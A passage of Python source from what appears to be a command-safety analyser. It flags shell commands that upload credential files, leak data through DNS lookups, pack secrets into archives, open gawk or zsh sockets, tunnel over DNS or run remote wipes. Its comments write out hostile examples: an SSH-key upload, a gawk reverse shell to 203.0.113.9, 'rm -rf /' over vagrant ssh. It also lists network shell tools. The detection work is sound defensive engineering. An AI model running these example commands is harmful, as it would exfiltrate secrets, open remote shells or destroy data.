    option's value: `--file X`, `-File X`, `-f=X`) next to a remote destination
    (`s3://`, `sj://`, `remote:path`, `https://`, `\\\\host\\share`) or an upload verb, or
    reads one on stdin (`rclone rcat remote:k < ~/.ssh/id_ecdsa`); None otherwise."""
    if cmd.name in _LOCAL_ONLY:
        return None
    if (
        not cmd.stdin.secret
        and not cmd.scope.env
        and not may_hold_secret(cmd.argv.joined_low, cmd.argv.chars)
    ):
        return None  # (no argument can name a credential file, nothing held one)
    texts = [w for w in cmd.args if not w.dynamic]
    secret: Word | None = None
    for i, w in enumerate(cmd.args):
        if " " in w.text:
            continue
        if w.dynamic:
            # (n19u) `--data-file=$HOME/.ssh/id_rsa`: the home folder by its variable
            at = w.text.find("$")
            m = _HOME_VAR.match(w.text, at) if at >= 0 else None
            if m is None or "$" in w.text[m.end() :]:
                continue
            w = Word(w.text[:at] + "~" + w.text[m.end() :], w.start, w.end)
        if w.text.startswith("-"):
            key, eq, value = w.text.partition("=")
            if not eq or key.lower() not in _SOURCE_OPTIONS:
                continue  # `--config ~/.docker/config.json`: credentials used, not sent
        else:
            prev = cmd.args[i - 1].text if i else ""
            if (
                prev.startswith("-")
                and "=" not in prev
                and prev.lower() not in _SOURCE_OPTIONS
                and not _SWITCH.match(prev)
            ):
                # the value of some other option (`--kubeconfig X`, `-i key`); after a plain
                # switch (`--recursive X`) X is an operand: only a source option's value or
                # a bare operand counts
                continue
            value = w.text
        if is_secret(value) or (
            cmd.scope.env
            and cmd.name not in _RUNNERS
            and (SECRET_HELD + _key(value)) in cmd.scope.env
        ):
            secret = w
            break
    stdin_secret = cmd.stdin.secret
    if secret is None and not stdin_secret:
        return None
    ops = [w.text for w in texts if not w.text.startswith("-")]
    remote = any((_REMOTE_DEST.match(t) or _host_name(t)) and not is_secret(t) for t in ops)
    verb = (
        any(_UPLOAD_VERB.match(t) for t in ops[:3])
        or _secret_store_write(ops)
        or bool(_UPLOAD_CMDLET.match(cmd.name))
        or bool(_UPLOAD_NAME.search(cmd.name))
        or (cmd.name.endswith("put") and cmd.name not in ("tput", "input", "output"))
    )
    if remote or verb:
        return secret or Word("", cmd.start, cmd.end)
    return None


def _host_name(text: str) -> bool:
    """`ftp.example.com`, `203.0.113.9`: a bare host an upload client is pointed at (its last
    label is no file suffix: `notes.tar.gz` is a file)."""
    if re.fullmatch(r"\d{1,3}(?:\.\d{1,3}){3}", text):
        return True
    m = re.fullmatch(r"(?:[A-Za-z0-9-]{1,63}\.){1,6}([A-Za-z]{2,24})", text)
    return m is not None and m.group(1).lower() not in _FILE_SUFFIXES


# Known programs that send a name they are given to another machine.
_NAME_SENDERS = frozenset(
    names(
        """
        finger whois telnet nc ncat netcat socat ldapsearch smbclient rpcclient snmpget ssh scp
        sftp ftp lftp rsync mail mailx mutt sendmail rlogin rsh
        """
    )
)
_FILE_SUFFIXES = frozenset(
    names(
        """
        gz tgz bz2 xz zst zip tar log txt json csv bak sql md html htm xml yaml yml png jpg jpeg
        gif pdf iso img deb rpm sh py js ts conf cfg ini out dat db tmp old pid lock key pem crt
        csr asc gpg sig patch diff bin so dll exe tf lst rst toml env
        """
    )
)
_HOST_TAIL = re.compile(
    r"(?:@[\w-]+(?:\.[\w-]+)*\.[A-Za-z]{2,}|\.[\w-]+\.[A-Za-z]{2,}|@\d{1,3}(?:\.\d{1,3}){3})"
    r"\.?(?::\S*)?[\"']?\Z"
)


def _substituted_url(src: str, w: Word, family: str) -> bool:
    """A URL whose written form holds a command substitution anywhere (user, host, path,
    query, fragment): `https://h/u/`id``, `"http://$(whoami)@h/"` (safety-m7)."""
    if w.start < 0 or w.end - w.start > 8000:
        return False
    j = w.start  # an unquoted URL the grammar splits around a backtick part: read it whole
    while j > 0 and w.start - j < 2000 and not src[j - 1].isspace():
        j -= 1
    raw = src[j : w.end]
    if "://" not in raw:
        return False
    return "$(" in raw or ("`" in raw and family == "bash")


def substituted_destination(cmd: Cmd) -> Word | None:
    """Any program handed a host name or `user@host` whose other part is a command's output
    (`finger "$(head -1 /etc/passwd)@h.example"`, `tool "$(whoami).x.example"`): the name is
    resolved or sent, so the output leaves the machine (exfiltration)."""
    if cmd.scope.family != "bash" or not cmd.argv.dynamic:
        return None  # (only a substitution's output is looked for)
    from aintern_ls.safety.registry import HANDLERS

    if cmd.name in HANDLERS and cmd.name not in _NAME_SENDERS:
        return None
    src = cmd.scope.source
    for w in cmd.args:
        if not w.dynamic or w.start < 0:
            continue
        raw = src[w.start : w.end]
        if ("$(" not in raw and "`" not in raw) or not _HOST_TAIL.search(raw):
            continue
        tld = re.search(r"\.([A-Za-z]{2,})\.?(?::\S*)?[\"']?\Z", raw)
        if tld is not None and tld.group(1).lower() in _FILE_SUFFIXES:
            continue  # `"$(date +%F).backup.tgz"`: a file name, not a host
        inner = raw[raw.find("$(") :] if "$(" in raw else raw
        if "@" in raw or re.search(r"\)\.[\w-]+\.", inner) or re.search(r"`\.[\w-]+\.", raw):
            return w
    return None


# --- address tables, port forwards (moved here from the session-6 `atomics.py`/`families6.py`) --
@handles("arp")
def _arp(cmd: Cmd) -> None:
    """`arp -a` prints the address cache; `arp -d/-s/-f` change it."""
    if cmd.name == "arp" and cmd.short("dsfS"):
        cmd.add(M, "network", "arp changes the address cache")


@handles("nbtstat", windows_only=True)
def _nbtstat(cmd: Cmd) -> None:
    """`nbtstat -n/-a/-c/-s`: NetBIOS tables; `-R`/`-RR` purge or re-register names."""
    if any(t in ("-R", "-RR", "/R", "/RR") for t in cmd.texts()):
        cmd.add(M, "network", "nbtstat purges or re-registers NetBIOS names")


def port_proxy(cmd: Cmd, name: str, joined: str) -> bool:
    """`netsh interface portproxy add|set`: a port forward through this machine (a pivot)."""
    if name == "netsh" and re.search(r"\binterface\s+portproxy\s+(?:add|set)\b", joined):
        cmd.add(C, "network", "netsh portproxy forwards a port through this machine (a pivot)")
        return True
    return False


# --- secrets carried into other files (safety-m8) --------------------------------------------
# A file or folder this text filled with secrets (`cp ~/.ssh/id_rsa /tmp/r/`, `tar czf k.tgz
# ~/.aws`, `Compress-Archive ~/.ssh s.zip`): its name in `scope.env` under this prefix (a key
# no variable can have, so the judgement cache sees it). Sending it later is sending them.
SECRET_HELD = "\x00secret:"
_COPIERS = frozenset(names("cp mv install rsync ditto ln gcp scp-local copy xcopy copy-item"))
_ARCHIVERS = frozenset(names("tar bsdtar gtar zip 7z 7za 7zz rar compress-archive gpg age"))
CARRIERS = _COPIERS | _ARCHIVERS
# Commands whose operands belong to the command they run (judged on its own).
_RUNNERS = frozenset(names("find fd fdfind xargs parallel env sudo doas nice timeout watch"))


def _key(path: str) -> str:
    return path.strip("\"'").replace("\\", "/").rstrip("/").rsplit("/", 1)[-1].lower()


def holds_secret(cmd: Cmd, path: str) -> bool:
    """A credential file or folder by its name, or one this text filled with secrets."""
    if is_secret(path):
        return True
    env = cmd.scope.env
    return bool(env) and bool(path) and (SECRET_HELD + _key(path)) in env


def carry_secrets(cmd: Cmd) -> None:
    """`cp ~/.gnupg repo/keys`, `tar czf /tmp/k.tgz ~/.ssh`, `zip -r c.zip ~/.config/gcloud`,
    `Compress-Archive -Path ~/.ssh -DestinationPath s.zip`: the destination (the copy, the
    archive) holds the secrets from now on, and so do the folders it sits in when it is
    a relative path of a project (`repo/keys`: `repo`)."""
    n = cmd.name
    if n not in _COPIERS and n not in _ARCHIVERS:
        return
    ops = [w for w in cmd.args if not w.text.startswith("-") or w.text == "-"]
    words = [w.text for w in cmd.args]
    dest: str | None = None
    sources: list[str] = []
    if n in ("compress-archive",):
        low = [t.lower() for t in words]
        for i, t in enumerate(low[:-1]):
            if t in ("-path", "-literalpath"):
                sources.append(words[i + 1])
            elif t in ("-destinationpath", "-dest", "-destination"):
                dest = words[i + 1]
        if dest is None and len(ops) >= 2:
            sources, dest = [ops[0].text], ops[1].text
    elif n in ("tar", "bsdtar", "gtar"):
        first = words[0].lstrip("-") if words else ""
        if not (first.isalpha() and "c" in first) and "--create" not in words:
            return
        archive = cmd.option_value("-f", "--file")
        if archive is None and first.isalpha() and "f" in first and len(ops) > 1:
            archive = ops[1]
        if archive is None:
            return
        dest = archive.text
        sources = [w.text for w in ops if w is not archive and w.text != words[0]]
    elif n in ("zip", "7z", "7za", "7zz", "rar"):
        rest = [w.text for w in ops]
        if n != "zip":
            if not rest or rest[0] not in ("a", "u"):
                return
            rest = rest[1:]
        if len(rest) < 2:
            return
        dest, sources = rest[0], rest[1:]
    elif n in ("gpg", "age"):
        out = cmd.option_value("-o", "--output")
        if out is None:
            return
        dest, sources = out.text, [w.text for w in ops if w is not out]
    else:
        if len(ops) < 2:
            return
        dest, sources = ops[-1].text, [w.text for w in ops[:-1]]
    if dest is None or not any(holds_secret(cmd, s) for s in sources):
        return
    env = cmd.scope.env
    env[SECRET_HELD + _key(dest)] = "1"
    parts = dest.strip("\"'").replace("\\", "/").split("/")
    if not dest.startswith(("/", "~", "$")) and len(parts) > 1:
        env[SECRET_HELD + parts[0].lower()] = "1"  # `repo/keys`: the repository holds them


# --- a shell's own TCP module (safety-m9) ----------------------------------------------------
# zsh's `zmodload zsh/net/tcp; ztcp HOST PORT` (and `zsocket` for UNIX sockets) opens a
# connection and leaves its descriptor in `$REPLY`; what is then redirected to it
# (`cat ~/.ssh/id_rsa >&$REPLY`) goes to the network, and a shell reading it (`zsh <&$fd`) runs
# what the peer sends. `scope.env[SOCKET_OPEN]` records that such a descriptor is open (a key
# no variable can have, so the judgement cache sees it); the redirect judge reads it.
SOCKET_OPEN = "\x00socket-open"


@handles("nmap")  # (h20: moved from system.py to reach dns_exfiltration)
def _nmap(cmd: Cmd) -> None:
    """nmap scans (network, moderate); `--interactive` has a shell escape and `--script`
    runs a Lua script (local code)."""
    if cmd.has("--interactive"):
        cmd.add(C, "config-exec", "nmap --interactive offers a shell escape (!sh)")
        return
    if dns_exfiltration(cmd):
        return  # (h20) `nmap -sL $(whoami).x.example`: the name looked up carries data
    for _, v in system.opt_values(cmd, "--script"):
        if v.dynamic and v.origin in ("static", "decoded"):
            # `nmap --script <(echo 'os.execute(…)')`: the script's text is known: Lua.
            system._judge_embedded(cmd, Word(v.text, v.start, v.end), "nmap's Lua script", "lua")
            cmd.add(M, "local-script", "nmap runs a Lua script", v)
        elif not v.dynamic and any(
            (code := system.written_script_text(cmd, Word(part, v.start, v.end))) is not None
            for part in v.text.split(",")[:8]
        ):
            # (u21) `echo 'os.execute(…)' > x.nse; nmap --script=./x.nse`: the Lua this block
            # wrote into the script file
            assert code is not None
            system._judge_embedded(cmd, code, "nmap's Lua script", "lua")
            cmd.add(M, "local-script", "nmap runs a Lua script", v)
        elif v.dynamic or any(
            "/" in part or part.endswith((".nse", ".lua")) or part.startswith("~")
            for part in v.text.split(",")
        ):
            # A script file of one's own (not one of nmap's categories or bundled names):
            # Lua with `os.execute`, run by a scanner often started as root, and unread here.
            cmd.add(C, "local-script", "nmap runs a Lua script file the analyser cannot read", v)
    cmd.add(M, "network", "nmap scans hosts")


@handles("ztcp", "zsocket")
def _zsh_socket(cmd: Cmd) -> None:
    """`ztcp HOST PORT`: a connection to a host (network, moderate); `ztcp -l PORT` listens,
    `ztcp -a FD` accepts, `ztcp -c [FD]` closes, `ztcp` alone lists open connections."""
    ops = [w for w in cmd.args if not w.text.startswith("-")]
    if cmd.short("c") or (not cmd.args and cmd.name == "ztcp"):
        return
    if cmd.short("l") or cmd.short("a"):
        cmd.scope.env[SOCKET_OPEN] = "1"
        cmd.add(M, "network", f"{cmd.name} listens for network connections")
        return
    if ops:
        cmd.scope.env[SOCKET_OPEN] = "1"
        cmd.add(M, "network", f"{cmd.name} opens a network connection")


# --- sockets opened by programs that are not network tools (safety-m8) ----------------------
_INET_FILE = re.compile(r"/inet[46]?/(?:tcp|udp)/\d+/[^/\s\"']+/\d+")
DNS_TUNNELS = frozenset(
    names(
        "iodine iodined dns2tcpc dns2tcpd dnscat dnscat2 dnscat2-client dnstt-client dnstt-server"
    )
)


def _inet_used(code: str) -> bool:
    """Whether an awk program opens its `/inet/…` special file: a coprocess (`|&`), or the
    name (or a variable holding it) after `>`, `>>`, `<` or `getline <` (safety-m9)."""
    if "|&" in code:
        return True
    held = {m.group(1) for m in re.finditer(r"(?<!\w)(\w+)[ \t]*=[ \t]*\"/inet", code)}
    for m in re.finditer(r"(?:>>?|<)\s*(\"/inet|\(?\s*(\w+))", code):
        if m.group(1).startswith('"') or m.group(2) in held:
            return True
    return False


def socket_programs(cmd: Cmd) -> bool:
    """`gawk 'BEGIN{s="/inet/tcp/0/203.0.113.9/4444"; while((s |& getline c)>0) …}'`: gawk's
    network special files connect to a host; reading commands from it and running them (or
    feeding it a command's output) is a reverse shell: critical. `iodine`, `dnscat2`,
    `dns2tcpc`: traffic tunnelled through DNS queries (a covert channel): critical."""
    if cmd.name in DNS_TUNNELS:
        cmd.add(C, "tunnel", f"{cmd.name} tunnels traffic through DNS (a covert channel)")
        return True
    code = " ".join(w.text for w in cmd.args if not w.dynamic)
    if "/inet" not in code or not _INET_FILE.search(code):
        return False
    if not _inet_used(code):
        return False  # `awk 'BEGIN{print "/inet/tcp/0/h/80"}'`: the name printed, not opened
    if re.search(r"\|&|\|\s*getline|system\s*\(", code):
        cmd.add(C, "reverse-shell", f"{cmd.name} connects to a host and runs what it sends")
    else:
        cmd.add(C, "exfiltration", f"{cmd.name} opens a network connection (/inet)")
    return True


# --- commands run on a VM or remote box through a tool's ssh/exec verb (n11u) -------------
# tool -> (verb words, option words carrying the command line, how many operands name the
# machine before the command words start (-1: none, the words after `--` only)).
VM_SHELLS: dict[str, tuple[tuple[tuple[str, ...], tuple[str, ...], int], ...]] = {
    "vagrant": (
        (("ssh",), ("-c", "--command"), -1),
        (("winrm",), ("-c", "--command"), -1),
        (("powershell",), ("-c", "--command"), -1),
    ),
    "limactl": ((("shell",), (), 1),),
    "docker-machine": ((("ssh",), (), 1),),
    "podman": ((("machine", "ssh"), (), 0),),
    "fly": ((("ssh", "console"), ("-C", "--command"), -1),),
    "flyctl": ((("ssh", "console"), ("-C", "--command"), -1),),
    "oc": ((("rsh",), (), 1),),
    "gh": ((("codespace", "ssh"), (), -1), (("cs", "ssh"), (), -1)),
    "devcontainer": ((("exec",), (), 0),),
    # (n12u) more dev-VM managers: `minikube ssh -- CMD`, `colima ssh -- CMD`, `lima CMD`
    # (the default instance), `multipass exec NAME -- CMD`, `orb CMD` / `orbctl run CMD`
    # (OrbStack's default machine), `lando ssh -c CMD`
    "minikube": ((("ssh",), (), 0),),
    "colima": ((("ssh",), (), 0),),
    "lima": (((), (), 0),),
    "multipass": ((("exec",), (), 1),),
    "orb": ((("run",), (), 0), ((), (), 0)),
    "orbctl": ((("run",), (), 0),),
    "lando": ((("ssh",), ("-c", "--command"), -1),),
    # (n18u) cloud CLIs' ssh verbs: `hcloud server ssh NAME CMD…`
    "hcloud": ((("server", "ssh"), (), 1),),
}
# Subcommands of a tool that otherwise runs its words in its default machine (`orb CMD`).
_VM_OWN_VERBS = {
    "orb": frozenset(
        names(
            """
            create delete rm list ls start stop restart shell run push pull config info logs
            update version help default rename clone export import status reset docker k8s
            kubernetes migrate ssh
            """
        )
    )
}
# Those tools' global options before the verb (`minikube -p dev ssh`, `orb -m ubuntu …`).
_VM_GLOBAL = frozenset(names("minikube colima lima multipass orb orbctl"))
_VM_GLOBAL_VALUED = frozenset(names("-p --profile -m --machine -u --user"))
# Options of those verbs that take a value (the word after them is not the machine).
_VM_VALUED = frozenset(
    names(
        """
        --workdir --shell --tty -c --codespace --config --profile -a --app -o --org -r --region
        --workspace-folder --container-id --id-label --remote-env --user -u --machine -m
        --namespace -n --context --container
        """
    )
)


def vm_remote_command(cmd: Cmd) -> None:
    """`vagrant ssh -c 'sudo rm -rf /'`, `limactl shell default sudo rm -rf /`,
    `docker-machine ssh dev 'rm -rf /'`, `gh codespace ssh -- rm -rf /`: the command runs on
    the VM or remote box; it is judged as written (a root wipe there is blocked)."""
    args = cmd.args
    if cmd.name in _VM_GLOBAL:
        args = args[skip_options(args, 0, _VM_GLOBAL_VALUED) :]
    texts = [w.text for w in args]
    for verb, options, machines in VM_SHELLS.get(cmd.name, ()):
        if tuple(texts[: len(verb)]) != verb:
            continue
        if not verb and texts and texts[0] in _VM_OWN_VERBS.get(cmd.name, ()):
            return  # `orb list`, `orb delete vm`: the tool's own command, not a remote one
        rest = list(args[len(verb) :])
        shell = "powershell" if verb[:1] in (("winrm",), ("powershell",)) else "bash"
        for i, w in enumerate(rest):
            if w.text in options and i + 1 < len(rest):
                _judge_remote(cmd, [rest[i + 1]], shell)
                return
            if w.text == "--":
                if i + 1 < len(rest) and machines < 0:
                    # `vagrant ssh -- -t 'cmd'`, `gh codespace ssh -- cmd`: ssh's own words
                    after = rest[i + 1 :]
                    k = skip_options(after, 0, _SSH_WITH_VALUE)
                    host = Word("vm", rest[i].start, rest[i].end)
                    ssh = Word("ssh", rest[i].start, rest[i].end)
                    _judge_remote(cmd, [ssh, *after[:k], host, *after[k:]])
                elif i + 1 < len(rest):
                    _judge_remote(cmd, rest[i + 1 :])
                return
        if machines < 0 and cmd.name == "vagrant":
            return
        ops: list[Word] = []
        i = 0
        while i < len(rest):
            t = rest[i].text
            if not ops and t.startswith("-") and len(t) > 1:
                i += 2 if t in _VM_VALUED and "=" not in t else 1
                continue
            ops.append(rest[i])
            i += 1
        if machines == 0 and cmd.name == "podman" and len(ops) >= 2 and " " not in ops[0].text:
            machines = 1  # `podman machine ssh NAME CMD…`; one quoted word is the command
        words = ops[max(machines, 0) :]
        if words:
            _judge_remote(cmd, words)
        return


def _judge_remote(cmd: Cmd, words: list[Word], shell: str = "bash") -> None:
    cmd.add(M, "network", f"{cmd.name} runs a command on another machine")
    if (
        len(words) == 1
        and not words[0].dynamic
        and (" " in words[0].text.strip() or shell != "bash")
    ):
        cmd.scope.include(cmd.scope.nested(words[0].text, shell, words[0]))
    elif len(words) == 1 and words[0].dynamic:
        cmd.add(C, "eval-dynamic", f"{cmd.name} runs a remote command only known at run time")
    else:
        cmd.judge(words)


@handles("ngrok")
def _ngrok(cmd: Cmd) -> None:
    ops = [t.lower() for t in cmd.texts() if not t.startswith("-")]
    if (
        not ops
        or ops[0] in remote.READ_ONLY_VERBS
        or ops[:2] in (["config", "check"], ["diagnose"])
    ):
        return
    if ops[0] == "service" and ops[1:2] == ["install"]:
        cmd.add(C, "remote-access", "ngrok installs itself as a service (a standing tunnel)")
    elif ops[0] == "tcp" and any(o.rsplit(":", 1)[-1] in remote.LOGIN_PORTS for o in ops[1:]):
        cmd.add(C, "remote-access", "ngrok exposes a remote-login port to the internet")
    elif ops[0] in ("tcp", "http", "tls", "start"):
        served = next((w for w in cmd.args if w.text.lower().startswith("file://")), None)
        if ops[0] == "http" and served is not None:
            # (a21) `ngrok http file:///`: ngrok's own file server publishes the folder
            # (`file:///C:/` is C:\); a root or home folder is exfiltration, as with
            # `python3 -m http.server -d /` (moved here from remote: network imports remote)
            path = served.text[7:]
            if re.match(r"/[A-Za-z]:", path):
                path = path[1:]
            serve_folder(cmd, Word(path or "/", served.start, served.end, served.dynamic))
            return
        cmd.add(M, "network", "ngrok exposes a local port to the internet")
    else:
        cmd.add(M, "network", "ngrok changes its configuration")
